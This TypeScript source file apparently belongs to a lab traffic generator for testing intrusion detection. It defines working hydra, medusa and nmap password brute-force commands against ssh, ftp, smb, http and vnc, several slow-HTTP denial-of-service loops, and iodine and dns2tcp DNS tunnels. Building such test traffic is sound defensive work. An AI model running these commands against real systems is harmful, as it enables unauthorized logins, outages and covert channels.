/** Guessed passwords, slow HTTP, and tunnels through DNS. */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Site } from '../site.ts';
import { type Attack, serversOf, single } from './attack.ts';

const speeds = { fast: [4, 16], medium: [1, 3], slow: [0.3, 0.6] } as const;

function wordList(site: Site): string {
  const path = join(site.network.directory, 'words');
  writeFileSync(path, Array.from({ length: 60 }, (_, i) => `word${i}\n`).join(''));
  return path;
}

function guess(
  tool: string,
  service: string,
  host: 'web' | 'files',
  command: (site: Site, tries: number, words: string, target: string) => string,
): Attack {
  return {
    class: `brute.${service}`,
    alerts: ['brute-force.password', 'brute-force.spray'],
    technique: 'T1110.001',
    tool,
    needs: [tool, ...(serversOf[service] ?? [])],
    speeds,
    plan(site, rate) {
      const target = site.address(host);
      return single('evil', command(site, Math.max(1, Math.round(rate)), wordList(site), target), [site.address('evil')], [target], 40);
    },
  };
}

/**
 * Connections that say a little and then wait, `rate` new ones a second, `most` at once: `hold` is what one of them runs, in bash, for about
 * twenty seconds. By programs that everyone has, which hold connections each in its own way.
 */
function hold(tool: string, commandOf: (host: string) => string): Attack {
  return {
    class: 'slow-http',
    alerts: ['dos.slow'],
    technique: 'T1499.002',
    tool,
    needs: [tool],
    speeds: { fast: [50, 150], medium: [20, 40] },
    plan(site, rate) {
      const victim = site.address('web');
      const most = site.random.whole(90, 160);
      const loop = `for i in $(seq ${most}); do ( ${commandOf(victim)} ) > /dev/null 2>&1 & sleep ${(1 / rate).toFixed(4)}; done; wait`;
      return {
        jobs: [{ host: 'evil', argv: ['bash', '-c', loop] }],
        attackers: [site.address('evil')],
        victims: [victim],
        seconds: 25,
      };
    },
  };
}

/** Slow attacks in the way that `options` say, with 150 connections, `rate` new ones a second. */
function slowHttp(name: string, options: string, path: string, alerts = ['dos.slow']): Attack {
  return {
    class: name,
    alerts,
    technique: 'T1499.002',
    tool: 'slowhttptest',
    needs: ['slowhttptest'],
    speeds: { fast: [50, 200], medium: [20, 40] },
    plan: (site, rate) =>
      single(
        'evil',
        `slowhttptest ${options} -c 150 -r ${Math.round(rate)} -l 15 -u http://${site.address('web')}${path}`,
        [site.address('evil')],
        [site.address('web')],
        25,
      ),
  };
}

export const loginsAndTunnels: readonly Attack[] = [
  guess('hydra', 'ssh', 'files', (_site, tries, words, target) => `hydra -I -l root -P ${words} -t ${Math.min(tries, 8)} ssh://${target}`),
  guess(
    'medusa',
    'ssh',
    'files',
    (_site, tries, words, target) => `medusa -h ${target} -u root -P ${words} -M ssh -t ${Math.min(tries, 4)}`,
  ),
  guess('hydra', 'ftp', 'files', (_site, tries, words, target) => `hydra -I -l root -P ${words} -t ${Math.min(tries, 8)} ftp://${target}`),
  guess('hydra', 'smb', 'files', (_site, _tries, words, target) => `hydra -I -l root -P ${words} -t 1 smb://${target}`),
  guess(
    'medusa',
    'smb',
    'files',
    (_site, tries, words, target) => `medusa -h ${target} -u root -P ${words} -M smbnt -t ${Math.min(tries, 4)}`,
  ),
  guess(
    'hydra',
    'http',
    'web',
    (_site, tries, words, target) => `hydra -I -l alice -P ${words} -t ${Math.min(tries, 8)} http-get://${target}/private`,
  ),
  guess(
    'hydra',
    'vnc',
    'files',
    (site, tries, words, target) => `hydra -I -s ${site.random.pick([5900, 5901])} -P ${words} -t ${Math.min(tries, 4)} vnc://${target}`,
  ),
  guess(
    'medusa',
    'vnc',
    'files',
    (_site, tries, words, target) => `medusa -h ${target} -n 5901 -u root -P ${words} -M vnc -t ${Math.min(tries, 2)}`,
  ),
  guess(
    'nmap',
    'ftp',
    'files',
    (_site, tries, words, target) =>
      `nmap -n -Pn -p 21 --max-parallelism ${Math.min(tries, 8)} --script ftp-brute --script-args userdb=${words},passdb=${words} ${target}`,
  ),
  slowHttp('slow-http', '-H -i 5', '/'),
  {
    class: 'slow-http',
    alerts: ['dos.slow'],
    technique: 'T1499.002',
    tool: 'nmap',
    needs: ['nmap'],
    speeds: { fast: [100, 200], medium: [50, 80] },
    // It opens as many connections at once as it may, and does not end by itself.
    plan: (site, rate) =>
      single(
        'evil',
        `nmap -n -Pn -p 80 --max-parallelism ${Math.round(rate)} --script http-slowloris --script-args http-slowloris.runforever ${site.address('web')}`,
        [site.address('evil')],
        [site.address('web')],
        25,
      ),
  },
  // Headers that never end, a line at a time.
  hold(
    'nc',
    (host) =>
      `(printf 'GET / HTTP/1.1\\r\\nHost: ${host}\\r\\n'; for n in 1 2 3 4; do sleep 4; printf "X-$n: $n\\r\\n"; done) | nc -w 20 ${host} 80`,
  ),
  // A request of which nothing but the first word comes.
  hold('socat', (host) => `(printf 'GET '; sleep 18) | socat -t 1 - TCP:${host}:80`),
  // A form whose body comes a few bytes at a time.
  hold('curl', (host) => `head -c 4000 /dev/zero | curl -s -m 18 --limit-rate 10 -H 'Expect:' -T - http://${host}/form`),
  // The body that never ends.
  slowHttp('slow-http.body', '-B -i 4 -s 8192', '/form'),
  // Hundreds of parts of a page in each request.
  slowHttp('slow-http.ranges', '-R -a 10 -b 1500 -t HEAD', '/page.html', ['dos.ranges']),
  // The answer that is never read.
  slowHttp('slow-http.read', '-X -w 512 -y 1024 -n 5 -z 32', '/big.bin'),
  {
    class: 'dns-tunnel',
    alerts: ['dns.tunnel'],
    technique: 'T1071.004',
    tool: 'iodine',
    needs: ['iodine', 'iodined', 'ping'],
    speeds: { fast: [5, 20], medium: [1, 2] },
    plan(site, rate) {
      const server = site.address('bob');
      return {
        jobs: [
          { host: 'bob', argv: ['timeout', '22', 'iodined', '-f', '-c', '-P', 'lab', '172.30.99.1', 't.example.test'] },
          { host: 'evil', argv: ['timeout', '20', 'iodine', '-f', '-r', '-P', 'lab', server, 't.example.test'] },
          { host: 'evil', argv: ['bash', '-c', `sleep 6; ping -q -i ${Math.max(0.2, 1 / rate).toFixed(2)} -w 12 172.30.99.1`] },
        ],
        attackers: [site.address('evil')],
        victims: [server],
        seconds: 24,
      };
    },
  },
  {
    class: 'dns-tunnel',
    alerts: ['dns.tunnel'],
    technique: 'T1071.004',
    tool: 'dns2tcp',
    needs: ['dns2tcpc', 'dns2tcpd', 'nc'],
    speeds: { fast: [5, 20], medium: [1, 2] },
    plan(site, rate) {
      const server = site.address('bob');
      const settings = join(site.network.directory, 'dns2tcpd');
      writeFileSync(
        settings,
        `listen = ${server}\nport = 53\nuser = nobody\nchroot = ${site.network.directory}\ndomain = d.example.test\nresources = echo:127.0.0.1:7007\n`,
      );
      const talk = `for i in $(seq 40); do echo "line $i of what is carried"; sleep ${Math.max(0.1, 1 / rate).toFixed(2)}; done`;
      return {
        jobs: [
          { host: 'bob', argv: ['timeout', '22', 'socat', 'TCP-LISTEN:7007,bind=127.0.0.1,fork', 'EXEC:cat'] },
          { host: 'bob', argv: ['timeout', '22', 'dns2tcpd', '-F', '-f', settings] },
          { host: 'evil', argv: ['bash', '-c', `sleep 2; exec timeout 18 dns2tcpc -r echo -z d.example.test -l 7008 ${server}`] },
          { host: 'evil', argv: ['bash', '-c', `sleep 4; (${talk}) | timeout 15 nc 127.0.0.1 7008`] },
        ],
        attackers: [site.address('evil')],
        victims: [server],
        seconds: 24,
      };
    },
  },
];
